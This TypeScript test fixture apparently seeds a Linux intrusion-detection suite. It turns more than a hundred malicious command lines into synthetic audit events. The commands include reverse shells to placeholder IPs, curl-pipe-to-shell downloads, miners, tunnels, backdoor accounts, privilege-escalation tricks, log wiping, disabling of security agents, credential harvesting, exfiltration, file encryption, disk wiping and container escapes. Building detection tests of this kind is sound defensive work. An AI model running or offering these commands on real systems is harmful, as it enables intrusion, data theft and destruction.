import { rowsOf } from "./needle.ts";
import type { Needle } from "./needle.ts";

/** Process starts: parent ;; program ;; command line ;; mark. */
const STARTS = `
// execution and command-and-control
/usr/sbin/apache2 ;; /usr/bin/perl ;; perl -MIO::Socket -e $c=IO::Socket::INET->new("203.0.113.77:8443");while(<$c>){print $c qx($_)} ;; 203.0.113.77
/usr/bin/java ;; /bin/bash ;; bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8x}|{base64,-d}|{bash,-i} ;; YmFzaCAtaSA
/bin/bash ;; /usr/bin/socat ;; socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.23:4444 ;; 198.51.100.23
/bin/sh ;; /usr/bin/openssl ;; openssl s_client -quiet -connect 198.51.100.9:8000 ;; s_client
/usr/bin/php ;; /bin/sh ;; sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 1234 >/tmp/f ;; mkfifo
/bin/bash ;; /usr/bin/lua5.3 ;; lua5.3 -e local s=require("socket");local t=s.tcp();t:connect("203.0.113.44","9002");os.execute("/bin/sh") ;; 203.0.113.44
/bin/bash ;; /usr/bin/ruby2.7 ;; ruby -rsocket -e exit if fork;c=TCPSocket.new("203.0.113.51","4242") ;; rsocket
/bin/bash ;; /usr/bin/awk ;; awk BEGIN {s = "/inet/tcp/0/203.0.113.52/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; } } } ;; /inet/tcp/0
/bin/bash ;; /usr/bin/script ;; script -qc /bin/bash /dev/null ;; script -qc
/bin/bash ;; /usr/bin/python3.8 ;; python3 -c import pty;pty.spawn("/bin/bash") ;; pty.spawn
/bin/bash ;; /usr/bin/curl ;; curl -sL https://files.badcdn.example/x.sh -o /dev/shm/.x ;; badcdn
/bin/sh ;; /usr/bin/wget ;; wget -q -O- http://pastebin.example/raw/Zk3uYt ;; Zk3uYt
/bin/bash ;; /usr/bin/busybox ;; busybox wget http://203.0.113.80/mipsel -O /tmp/.m ;; mipsel
/bin/bash ;; /usr/bin/tftp ;; tftp -g -r bot.arm7 203.0.113.81 ;; bot.arm7
/bin/bash ;; /tmp/.X11-unix/kworker ;; ./kworker -o stratum+tcp://pool.minexmr.example:3333 -u 44AFFq5kSiGB ;; minexmr
/usr/sbin/cron ;; /var/tmp/.cache/xmrig ;; /var/tmp/.cache/xmrig --config=/var/tmp/.cache/c.json --donate-level 1 ;; xmrig
/bin/bash ;; /dev/shm/sshd ;; /dev/shm/sshd -D -p 2200 ;; /dev/shm/sshd
/lib/systemd/systemd ;; /usr/local/lib/.libs/dbus-helper ;; /usr/local/lib/.libs/dbus-helper --daemon ;; dbus-helper
/bin/bash ;; /home/deploy/.local/share/chisel ;; ./chisel client 203.0.113.91:443 R:socks ;; chisel
/bin/bash ;; /tmp/ligolo-agent ;; ./ligolo-agent -connect 203.0.113.92:11601 -ignore-cert ;; ligolo
/bin/bash ;; /usr/bin/ssh ;; ssh -fN -R 2222:localhost:22 tunnel@203.0.113.93 ;; 203.0.113.93
/bin/bash ;; /usr/bin/ssh ;; ssh -D 1080 -o StrictHostKeyChecking=no jump@198.51.100.66 ;; 198.51.100.66
/bin/bash ;; /opt/ngrok/ngrok ;; ngrok tcp 22 --authtoken 2aKz9 ;; ngrok
/bin/bash ;; /usr/local/bin/cloudflared ;; cloudflared tunnel --url tcp://localhost:22 ;; cloudflared
/bin/bash ;; /usr/bin/tor ;; tor --SocksPort 9150 --RunAsDaemon 1 ;; SocksPort
/usr/bin/nohup ;; /usr/bin/python3 ;; python3 /tmp/.ICE-unix/agent.py --beacon 45 ;; agent.py
/bin/bash ;; /usr/bin/nsenter ;; nsenter -t 1 -m -u -i -n -p -- bash ;; nsenter
/bin/bash ;; /usr/bin/gdb ;; gdb -nx -ex 'python import os; os.setuid(0)' -ex '!sh' -ex quit ;; os.setuid
/bin/bash ;; /lib64/ld-linux-x86-64.so.2 ;; /lib64/ld-linux-x86-64.so.2 /dev/shm/payload.elf ;; payload.elf
/usr/lib/postgresql/12/bin/postgres ;; /bin/sh ;; sh -c curl 203.0.113.12/pg.sh|sh ;; pg.sh
/usr/sbin/mysqld ;; /bin/sh ;; sh -c id > /tmp/udf_out ;; udf_out
/usr/bin/redis-server ;; /bin/sh ;; sh -c cp /bin/bash /tmp/rb ;; /tmp/rb
/usr/bin/node ;; /bin/sh ;; sh -c cat /proc/self/environ ;; /proc/self/environ
/usr/sbin/nginx ;; /bin/dash ;; sh -c uname -a;w;id ;; uname -a;w;id
/usr/sbin/exim4 ;; /bin/sh ;; sh -c wget 203.0.113.33/s -O /root/.ssh/e ;; 203.0.113.33
// persistence
/bin/bash ;; /usr/bin/crontab ;; crontab /tmp/.cr0n ;; .cr0n
/bin/bash ;; /usr/bin/at ;; at -f /var/tmp/.job now + 3 minutes ;; /var/tmp/.job
/bin/bash ;; /bin/systemctl ;; systemctl enable --now pulseaudio-sync.timer ;; pulseaudio-sync
/bin/bash ;; /usr/bin/systemd-run ;; systemd-run --on-calendar=hourly /var/tmp/upd ;; systemd-run
/usr/bin/sudo ;; /usr/sbin/useradd ;; useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor2 ;; toor2
/bin/bash ;; /usr/sbin/usermod ;; usermod -aG sudo svc-backup ;; svc-backup
/bin/bash ;; /usr/sbin/chpasswd ;; chpasswd -c SHA512 --root /mnt ;; chpasswd
/bin/bash ;; /usr/bin/passwd ;; passwd -u games ;; passwd -u games
/bin/bash ;; /usr/bin/gpasswd ;; gpasswd -a nobody docker ;; gpasswd
/bin/bash ;; /usr/bin/tee ;; tee -a /root/.ssh/authorized_keys ;; /root/.ssh/authorized_keys
/bin/bash ;; /bin/sed ;; sed -i s/^#PermitRootLogin.*/PermitRootLogin yes/ /etc/ssh/sshd_config ;; PermitRootLogin
/bin/bash ;; /usr/sbin/update-rc.d ;; update-rc.d netsyncd defaults ;; netsyncd
/bin/bash ;; /usr/bin/chattr ;; chattr +i /etc/cron.d/zz-sync ;; zz-sync
/bin/bash ;; /usr/bin/install ;; install -m 4755 /bin/dash /usr/lib/openssh/ssh-key ;; 4755
/bin/bash ;; /bin/cp ;; cp pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so ;; pam_unix.so
/bin/bash ;; /usr/bin/npm ;; npm install -g --unsafe-perm reqeusts-http ;; reqeusts-http
// privilege escalation
/bin/bash ;; /bin/chmod ;; chmod u+s /usr/bin/find ;; u+s
/bin/bash ;; /usr/sbin/setcap ;; setcap cap_setuid+ep /usr/bin/python3.8 ;; cap_setuid
/usr/bin/find ;; /bin/sh ;; /bin/sh -p ;; sh -p
/bin/bash ;; /usr/bin/pkexec ;; pkexec /bin/sh -c GCONV_PATH=./x ;; GCONV_PATH
/bin/bash ;; /usr/bin/sudo ;; sudoedit -s \\AAAAAAAAAAAAAAAAAA ;; sudoedit
/bin/bash ;; /usr/bin/sudo ;; sudo -u#-1 /bin/bash ;; -u#-1
/bin/bash ;; /usr/bin/docker ;; docker run --rm -it --privileged --pid=host -v /:/host alpine chroot /host ;; chroot /host
/bin/bash ;; /usr/sbin/capsh ;; capsh --gid=0 --uid=0 -- ;; capsh
/bin/bash ;; /usr/bin/unshare ;; unshare -rm sh -c mkdir l u w m && cp /u*/b*/p*3 l/ ;; unshare
/bin/bash ;; /home/deploy/cve-2022-0847 ;; ./cve-2022-0847 /usr/bin/su ;; cve-2022-0847
/bin/bash ;; /usr/bin/vim.basic ;; vim -c :!/bin/sh ;; :!/bin/sh
/bin/bash ;; /bin/tar ;; tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh ;; checkpoint-action
// defence evasion
/bin/bash ;; /usr/bin/shred ;; shred -zu /var/log/auth.log ;; shred
/bin/bash ;; /usr/bin/truncate ;; truncate -s 0 /var/log/wtmp ;; wtmp
/bin/bash ;; /bin/journalctl ;; journalctl --rotate --vacuum-time=1s ;; vacuum-time
/bin/bash ;; /usr/bin/unset ;; unset HISTFILE ;; HISTFILE
/bin/bash ;; /bin/ln ;; ln -sf /dev/null /home/deploy/.bash_history ;; .bash_history
/bin/bash ;; /usr/sbin/setenforce ;; setenforce 0 ;; setenforce
/bin/bash ;; /bin/systemctl ;; systemctl stop falcon-sensor ;; falcon-sensor
/bin/bash ;; /usr/sbin/auditctl ;; auditctl -D ;; auditctl
/bin/bash ;; /usr/bin/pkill ;; pkill -9 osqueryd ;; osqueryd
/bin/bash ;; /sbin/iptables ;; iptables -P INPUT ACCEPT ;; iptables -P
/bin/bash ;; /usr/sbin/ufw ;; ufw disable ;; ufw
/bin/bash ;; /sbin/sysctl ;; sysctl -w kernel.randomize_va_space=0 ;; randomize_va_space
/bin/bash ;; /usr/bin/touch ;; touch -r /bin/ls /usr/bin/.atd ;; touch -r
/bin/bash ;; /bin/mount ;; mount -o bind /tmp/empty /proc/4711 ;; /proc/4711
/bin/bash ;; /sbin/insmod ;; insmod /lib/modules/diamorphine.ko ;; diamorphine
/bin/bash ;; /sbin/modprobe ;; modprobe -r tcp_diag_guard ;; tcp_diag_guard
/bin/bash ;; /sbin/rmmod ;; rmmod threatstack_kmod ;; threatstack_kmod
/bin/bash ;; /usr/bin/base64 ;; base64 -d /tmp/.b64 ;; .b64
/bin/bash ;; /usr/bin/xxd ;; xxd -r -p loader.hex ;; loader.hex
/bin/bash ;; /usr/bin/gcc ;; gcc -shared -fPIC -o libproc.so processhider.c -ldl ;; processhider
/bin/bash ;; /usr/bin/upx ;; upx -9 implant ;; implant
// credentials
/bin/bash ;; /bin/cat ;; cat /etc/shadow ;; /etc/shadow
/bin/bash ;; /usr/bin/unshadow ;; unshadow passwd shadow ;; unshadow
/bin/bash ;; /usr/bin/gcore ;; gcore -o /tmp/core 1337 ;; gcore
/bin/bash ;; /usr/bin/strace ;; strace -f -e trace=read,write -p 912 -o /tmp/.ss ;; /tmp/.ss
/bin/bash ;; /usr/sbin/tcpdump ;; tcpdump -i any -w /tmp/.pc port 21 or port 110 ;; /tmp/.pc
/bin/bash ;; /bin/grep ;; grep -rniE password|secret|token /home /opt --include=*.env ;; include=*.env
/bin/bash ;; /usr/bin/curl ;; curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ ;; security-credentials
/bin/bash ;; /usr/bin/find ;; find / -name id_rsa -o -name *.pem -o -name .aws ;; id_rsa
/bin/bash ;; /usr/bin/aws ;; aws sts get-caller-identity --profile stolen ;; get-caller-identity
/bin/bash ;; /tmp/mimipenguin ;; ./mimipenguin ;; mimipenguin
/bin/bash ;; /bin/dd ;; dd if=/dev/sda1 of=/tmp/disk.img bs=4M ;; disk.img
// discovery and lateral movement
/bin/bash ;; /usr/bin/nmap ;; nmap -sS -p 22,445,3389 10.1.0.0/16 ;; nmap
/bin/bash ;; /usr/bin/masscan ;; masscan 10.0.0.0/8 -p6379 --rate 10000 ;; masscan
/bin/bash ;; /tmp/linpeas.sh ;; ./linpeas.sh -a ;; linpeas
/bin/bash ;; /usr/bin/find ;; find / -perm -4000 -type f ;; -perm -4000
/bin/bash ;; /usr/bin/getent ;; getent passwd 0 ;; getent
/bin/bash ;; /usr/bin/last ;; last -a -i ;; last -a
/bin/bash ;; /usr/bin/lsof ;; lsof -i -P -n ;; lsof
/bin/bash ;; /bin/ss ;; ss -tulpn ;; ss -tulpn
/bin/bash ;; /usr/bin/ldapsearch ;; ldapsearch -x -H ldap://10.1.0.10 -b dc=corp,dc=local ;; ldapsearch
/bin/bash ;; /usr/bin/sshpass ;; sshpass -p Winter2026! ssh root@10.1.4.17 ;; sshpass
/bin/bash ;; /usr/bin/scp ;; scp -r /opt/tools root@10.1.7.77:/dev/shm/ ;; 10.1.7.77
/bin/bash ;; /usr/bin/ansible ;; ansible all -m shell -a curl http://203.0.113.70/a|sh ;; 203.0.113.70
/bin/bash ;; /usr/bin/smbclient ;; smbclient //10.1.5.5/C$ -U corp/admin ;; smbclient
/bin/bash ;; /usr/bin/hydra ;; hydra -L u.txt -P p.txt ssh://10.1.6.6 ;; hydra
// collection, exfiltration, impact
/usr/sbin/php-fpm7.4 ;; /usr/bin/mysqldump ;; mysqldump --all-databases -r /var/www/html/d.sql ;; mysqldump
/bin/bash ;; /bin/tar ;; tar czf /tmp/.bk.tgz /etc /home ;; .bk.tgz
/bin/bash ;; /usr/bin/zip ;; zip -r -P infected loot.zip /srv/finance ;; loot.zip
/bin/bash ;; /usr/bin/curl ;; curl -F file=@/tmp/o.7z https://transfer.example/up ;; transfer.example
/bin/bash ;; /usr/bin/rclone ;; rclone copy /srv/share mega:dump --transfers 32 ;; rclone
/bin/bash ;; /usr/bin/aws ;; aws s3 sync /var/lib/app s3://ext-drop-91 --quiet ;; ext-drop-91
/bin/bash ;; /usr/bin/dig ;; dig +short 6d7973656372.t.exfil-dns.example TXT ;; exfil-dns
/bin/bash ;; /usr/bin/gpg ;; gpg --batch --yes --passphrase x -c /srv/db/customers.db ;; customers.db
/bin/bash ;; /usr/bin/find ;; find /srv -type f -exec openssl enc -aes-256-cbc -in {} -out {}.lck ; ;; {}.lck
/bin/bash ;; /bin/rm ;; rm -rf --no-preserve-root / ;; no-preserve-root
/bin/bash ;; /sbin/mkfs.ext4 ;; mkfs.ext4 -F /dev/nvme1n1 ;; mkfs.ext4
/bin/bash ;; /usr/bin/dd ;; dd if=/dev/urandom of=/dev/sdb bs=1M ;; /dev/urandom
/bin/bash ;; /sbin/lvremove ;; lvremove -f vg0/backup ;; vg0/backup
/bin/bash ;; /sbin/init ;; init 0 ;; init 0
/bin/bash ;; /usr/bin/killall ;; killall -STOP postgres ;; killall
`;

const CONTAINERS = `
runc ;; /bin/sh ;; sh -c apt update && apt install -y netcat ;; netcat
/bin/sh ;; /usr/bin/kubectl ;; kubectl --token=eyJhbGci get secrets -A ;; get secrets
/bin/bash ;; /usr/bin/curl ;; curl --unix-socket /var/run/docker.sock http://x/containers/json ;; docker.sock
/bin/bash ;; /bin/cat ;; cat /var/run/secrets/kubernetes.io/serviceaccount/token ;; serviceaccount
/bin/sh ;; /bin/mount ;; mount -t cgroup -o rdma cgroup /tmp/cgrp ;; /tmp/cgrp
/bin/sh ;; /usr/sbin/debugfs ;; debugfs -w /dev/xvda1 ;; debugfs
/usr/local/bin/python ;; /bin/bash ;; bash -i ;; bash -i
/bin/sh ;; /tmp/kinsing ;; /tmp/kinsing ;; kinsing
/bin/sh ;; /usr/bin/amicontained ;; amicontained ;; amicontained
/usr/bin/tini ;; /bin/sh ;; sh -c echo '#!/bin/sh' > /cmd; echo /cmd > /proc/sys/kernel/core_pattern ;; core_pattern
`;

const CONTAINER = {
  containerId: "5f3e1c0b9a8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f",
  containerImage: "registry.internal/shop/api:4.1.7",
};

/** Single malicious process starts on hosts and in containers, in spellings of the field. */
export const MORE_LINUX_PROCESSES: readonly Needle[] = [
  ...rowsOf(STARTS).map((row) => started(row)),
  ...rowsOf(CONTAINERS).map((row) => started(row, CONTAINER)),
];

function started(row: readonly string[], place: object = {}): Needle {
  const [parent = "", exe = "", line = "", mark = ""] = row;
  return {
    platform: "linux",
    mark,
    fields: {
      event_type: "audit",
      type: "start",
      syscall: "execve",
      exe,
      command: exe.slice(exe.lastIndexOf("/") + 1),
      arguments: line,
      args: line.split(" "),
      path: [exe],
      pid: 31_337,
      ppid: 31_300,
      exit: "0",
      success: true,
      parent_metadata: { exe: parent, pid: 31_300, timestamp: 0 },
      ...place,
    },
  };
}
